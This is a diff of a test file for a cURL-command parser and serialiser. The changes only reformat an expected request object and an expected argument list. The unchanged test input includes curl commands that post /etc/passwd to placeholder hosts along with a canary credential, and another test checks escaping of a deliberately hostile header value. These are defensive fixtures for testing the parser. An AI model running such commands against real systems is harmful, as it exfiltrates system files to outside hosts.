@@ -32,19 +32,19 @@ describe('cURL commands', () => {
       --data-raw $'{"k":"it\\'s \\u00e9"}' -H 'content-type: application/json' -k -L --max-time 5
       curl -u ada:${CANARY} https://b.example/ -F 'a=b' -F 'file=@/etc/passwd'; curl -d @/etc/passwd https://c.example/`)
     expect(whole).toHaveLength(3)
-    expect(whole[0]).toMatchObject(({
-	method: 'PUT',
-	url: 'https://a.example/x?y=1',
-	body: {
-		mode: 'json',
-		text: '{"k":"it\'s é"}'
-	},
-	options: {
-		verifyTls: false,
-		followRedirects: 'yes',
-		timeoutMs: 5e3
-	}
-}))
+    expect(whole[0]).toMatchObject({
+      method: 'PUT',
+      url: 'https://a.example/x?y=1',
+      body: {
+        mode: 'json',
+        text: '{"k":"it\'s é"}',
+      },
+      options: {
+        verifyTls: false,
+        followRedirects: 'yes',
+        timeoutMs: 5e3,
+      },
+    })
     expect(whole[0].headers.map(({ name, value }: { name: string; value: string }) => `${name}: ${value}`)).toEqual([
       'Accept: text/html',
       'X-Q: a"b',
@@ -76,7 +76,21 @@ describe('cURL commands', () => {
       .toString()
       .split('\0')
       .slice(0, -1)
-    expect(words).toEqual(['--globoff', '--request', 'POST', '--url', fields.url, '--header', `X-A: ${hostile.replace('\n', ' ')}`, '--header', 'Authorization: Bearer {{token}}', '--header', 'Content-Type: text/plain', '--data-raw', `@${hostile}`])
+    expect(words).toEqual([
+      '--globoff',
+      '--request',
+      'POST',
+      '--url',
+      fields.url,
+      '--header',
+      `X-A: ${hostile.replace('\n', ' ')}`,
+      '--header',
+      'Authorization: Bearer {{token}}',
+      '--header',
+      'Content-Type: text/plain',
+      '--data-raw',
+      `@${hostile}`,
+    ])
   })
 })
 
